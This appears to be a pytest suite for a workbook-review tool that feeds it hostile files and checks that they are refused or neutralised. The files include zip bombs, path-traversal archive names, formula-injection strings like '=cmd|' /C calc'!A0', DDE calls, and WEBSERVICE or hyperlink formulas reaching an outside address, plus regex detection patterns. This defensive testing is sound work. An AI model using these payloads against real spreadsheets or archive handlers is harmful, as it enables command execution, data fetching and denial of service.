"""Files made to hurt do not: each is refused or read in seconds, and nothing in them runs when a result is opened."""

from __future__ import annotations

import re
import struct
import time
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pytest
from builders import KEY, KEYS, MOF
from checking import answered
from damage import ANALYSIS, FUNDS, TABLE, Kind, found, project, save, workbook
from damage_files import macros
from damage_hostile import HOSTILE
from surgery import LINKS, Patient, zipped

from workbook_tools.core.errors import UnreadableWorkbook
from workbook_tools.core.model import Answers
from workbook_tools.core.review_result import ReviewResult
from workbook_tools.files.sources import find_sources
from workbook_tools.reports import write_reports
from workbook_tools.results import write_results
from workbook_tools.returns import write_returns
from workbook_tools.review import review_folder
from workbook_tools.summary.workbooks import write_summaries
from workbook_tools.workbooks.writing import build_workbook

SECONDS = 5.0


@pytest.mark.parametrize("kind", HOSTILE, ids=lambda kind: kind.name)
def test_each_trick_ends_in_its_finding_within_seconds(kind: Kind, tmp_path: Path) -> None:
    save(tmp_path, kind.files(workbook()))
    start = time.process_time()
    result = review_folder(tmp_path, keys=KEYS, projects=[project()]).result
    assert time.process_time() - start < SECONDS
    assert found(result) == Counter(kind.findings)
    assert [row.total_score for row in result.projects] == ([] if kind.total is None else [kind.total])


# -- archives ---------------------------------------------------------------------------------------------------------


def lying(archive: bytes, size: int, packed: int | None = None) -> bytes:
    """The archive whose directory states other sizes, of the contents and packed."""
    changed = bytearray(archive)
    for entry in re.finditer(b"PK\x01\x02", archive):
        struct.pack_into("<I", changed, entry.start() + 24, size)
        if packed is not None:
            struct.pack_into("<I", changed, entry.start() + 20, packed)
    return bytes(changed)


def read_all(folder: Path) -> list[str]:
    """The code of each refusal: of the archive, or of a member when it is read."""
    sources, findings = find_sources(folder)
    codes = [item.code for item in findings]
    for source in sources:
        with pytest.raises(UnreadableWorkbook) as caught:
            source.read()
        codes.append(caught.value.code)
    return codes


@pytest.mark.parametrize(
    ("make", "codes"),
    [
        (lambda: zipped({"甲.xlsx": bytes(70 * 2**20)}), ["FILE11"]),
        (lambda: zipped({"甲.xlsx": bytes(30 * 2**20)}), ["FILE11"]),
        (lambda: lying(zipped({"甲.xlsx": bytes(70 * 2**20)}), 1000), ["FILE03"]),
        (lambda: lying(zipped({f"{n}.xlsx": b"x" for n in range(100)}), 60 * 2**20, 2**20), ["FILE14"]),
        (lambda: zipped({f"{n}.txt": b"" for n in range(5001)}), ["FILE14"]),
        (lambda: zipped({"一.zip": zipped({"二.zip": zipped({"三.zip": b""})})}), ["FILE14"]),
    ],
    ids=["too large", "too dense", "larger than it says", "too much in all", "too many", "too deep"],
)
def test_an_archive_that_explodes_is_refused(make: Callable[[], bytes], codes: list[str], tmp_path: Path) -> None:
    (tmp_path / "弹.zip").write_bytes(make())
    start = time.process_time()
    assert read_all(tmp_path) == codes
    assert time.process_time() - start < SECONDS


def test_entries_that_overlap_are_refused_by_their_sum(tmp_path: Path) -> None:
    """Hundreds of entries of the directory lead to the same megabytes."""
    single = zipped({"甲.xlsx": bytes(range(256)) * 2**14})
    start = single.index(b"PK\x01\x02")
    entry, end = single[start : single.index(b"PK\x05\x06")], bytearray(single[single.index(b"PK\x05\x06") :])
    struct.pack_into("<HHI", end, 8, 2000, 2000, 2000 * len(entry))
    (tmp_path / "弹.zip").write_bytes(single[:start] + entry * 2000 + bytes(end))
    assert read_all(tmp_path) == ["FILE14"]


@pytest.mark.parametrize(
    ("inside", "name"),
    [
        ("../../甲.xlsx", "包.zip/甲.xlsx"),
        ("..\\..\\甲.xlsx", "包.zip/甲.xlsx"),
        ("/etc/甲.xlsx", "包.zip/etc/甲.xlsx"),
        ("交通局/.. /./甲.xlsx", "包.zip/交通局/甲.xlsx"),
        ("甲\n\x1b[31m.xlsx", "包.zip/甲[31m.xlsx"),
    ],
)
def test_a_members_name_stays_in_its_archive(inside: str, name: str, tmp_path: Path) -> None:
    (tmp_path / "包.zip").write_bytes(zipped({inside: b"x"}))
    assert [source.name for source in find_sources(tmp_path)[0]] == [name]


# -- what is written ----------------------------------------------------------------------------------------------------

RUNS = "=cmd|' /C calc'!A0"
MARKERS = re.compile(r"(?i)cmd|calc|webservice|hyperlink\((?!\"#')|dde|203\.0\.113|externallink")
"""Of a formula that fetches or starts something; a link to a sheet of the same workbook, as ours are, does neither."""
ACTIVE = re.compile(r"(?i)vba|externallink|activex|connections|macrosheet|embeddings")
_FORMULA_FIELD = re.compile(r"<w:(?:instrText[^>]*>([^<]*)|fldSimple [^>]*w:instr=\"([^\"]*))")


def hostile_project(code: str, name: str, department: str) -> bytes:
    """Issued by us under names that somebody made up, and filled in with texts that want to run."""
    texts = {
        key: f"{start}SUM(1+1)*cmd|' /C calc'!A0" for key, start in zip(project_texts(), "=+-@=+-@=+-", strict=True)
    }
    info = {"leader": RUNS, "filler": "@SUM(A1)", "phone": "+86|cmd", "fill_date": '=WEBSERVICE("http://203.0.113.5")'}
    filled = answered(project(), texts=texts, info=info, execution_reason='=DDE("cmd";"/C calc";"x")')
    changes = {"code": code, "name": name, "department": department, "unit": "=1+1", "annual_goal": RUNS}
    return build_workbook(filled.model_copy(update=changes), MOF, KEY)


def project_texts() -> list[str]:
    answers = project().answers
    assert isinstance(answers, Answers)
    return list(answers.texts)


def with_formulas() -> bytes:
    """Formulas in input cells that fetch or start something, a link to a server, and macros."""
    patient = Patient(macros.make(workbook()))
    patient.put(ANALYSIS, "B10", RUNS, formula=RUNS[1:])
    patient.put(TABLE, "E13", "1020", formula='WEBSERVICE("http://203.0.113.5/?"&amp;D13)')
    patient.put(TABLE, "J13", RUNS, formula='HYPERLINK("http://203.0.113.5","x")')
    patient.put(TABLE, "C13", RUNS)
    patient.put(TABLE, "I13", 20.0, formula=RUNS[1:])
    patient.put(FUNDS, "H8", None, formula='DDE("cmd","/C calc","x")', error="#REF!")
    patient.link("xl/worksheets/_rels/sheet4.xml.rels", "rIdUnc", "hyperlink", "file://203.0.113.5/x", outside=True)
    link = f'<hyperlinks><hyperlink ref="E13" xmlns:r="{LINKS}" r:id="rIdUnc"/></hyperlinks>'
    patient.rewrite("xl/worksheets/sheet4.xml", lambda xml: xml.replace("<printOptions", f"{link}<printOptions"))
    return patient.bytes()


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, ReviewResult]:
    """The folder with all that a review writes, and its result."""
    root = tmp_path_factory.mktemp("hostile")
    inbox, out = root / "a" / "b" / "回收", root / "a" / "b" / "结果"
    files = {
        "=cmd.xlsx": hostile_project(RUNS, "../../../../tmp/x", "..\\..\\上级"),
        "@x.xlsm": with_formulas(),
        "-坏的.xlsx": b"=1+1",
        "包.zip": zipped({"../../x.xlsx": hostile_project("../../P2", '=HYPERLINK("http://203.0.113.5")', "/etc")}),
    }
    save(inbox, files)
    before = set(root.rglob("*"))
    review = review_folder(inbox, keys=KEYS, authority="=1+1")
    result = review.result
    write_results(review, out)
    write_summaries(result, out / "汇总", inbox=inbox, reports=out / "报告")
    assert len(write_reports(result, out / "报告")) >= 3
    assert any(item.path for item in write_returns(result, inbox, out / "退回", KEYS))
    assert all(path.is_relative_to(out) for path in set(root.rglob("*")) - before - {out})
    return out, result


def parts_of(folder: Path, ending: str) -> Iterator[tuple[str, dict[str, str]]]:
    """The XML parts of every file of a kind."""
    paths = sorted(folder.rglob(f"*{ending}"))
    assert paths
    for path in paths:
        with zipfile.ZipFile(path) as archive:
            yield (
                path.name,
                {n: archive.read(n).decode("utf-8") for n in archive.namelist() if n.endswith((".xml", ".rels"))},
            )


def test_what_wants_to_run_is_found(written: tuple[Path, ReviewResult]) -> None:
    codes = Counter((item.code, item.sheet, item.cell) for item in written[1].findings if item.file == "@x.xlsm")
    assert {
        place for place in codes if place[0] in ("FILE15", "FILE16", "FILL17", "FILL18", "TAMPER02", "TAMPER03")
    } == {
        ("FILE15", "", ""),
        ("FILE16", "", ""),
        ("FILL17", ANALYSIS, "B10"),
        ("FILL17", TABLE, "E13"),
        ("FILL17", TABLE, "J13"),
        ("FILL18", FUNDS, "H8"),
        ("TAMPER02", TABLE, "C13"),
        ("TAMPER03", TABLE, "I13"),
    }
    begins = [item.code for item in written[1].findings if item.file == "=cmd.xlsx" and item.code == "FILL12"]
    assert len(begins) == 10 + 4 + 1  # an approved goal is not typed


def test_no_result_holds_a_formula_of_a_unit_and_texts_stay_texts(written: tuple[Path, ReviewResult]) -> None:
    texts = 0
    for path in written[0].rglob("*.xlsx"):
        for sheet in openpyxl.load_workbook(path):
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        assert not MARKERS.search(str(cell.value)), (path.name, sheet.title, cell.coordinate)
                    texts += cell.data_type == "s" and str(cell.value).startswith(("=", "+", "-", "@"))
    assert texts > 50


def test_no_result_holds_macros_or_links_that_reach_out(written: tuple[Path, ReviewResult]) -> None:
    for name, parts in (*parts_of(written[0], ".xlsx"), *parts_of(written[0], ".docx")):
        assert not [part for part in parts if ACTIVE.search(part)], name
        links = [
            target for xml in parts.values() for target in re.findall(r'Target="([^"]*)" TargetMode="External"', xml)
        ]
        assert not [target for target in links if re.match(r"(?i)[a-z]+:|[/\\]{2}", target)], name


def test_no_report_holds_a_field_of_a_unit(written: tuple[Path, ReviewResult]) -> None:
    fields = [
        "".join(found)
        for _, parts in parts_of(written[0], ".docx")
        for xml in parts.values()
        for found in _FORMULA_FIELD.findall(xml)
    ]
    assert fields
    assert not [text for text in fields if MARKERS.search(text)]


def test_every_file_is_named_by_what_a_name_may_hold(written: tuple[Path, ReviewResult]) -> None:
    for path in written[0].rglob("*"):
        assert not set(path.name) & set('<>:"/\\|?*'), path.name
        assert path.resolve().is_relative_to(written[0].resolve())
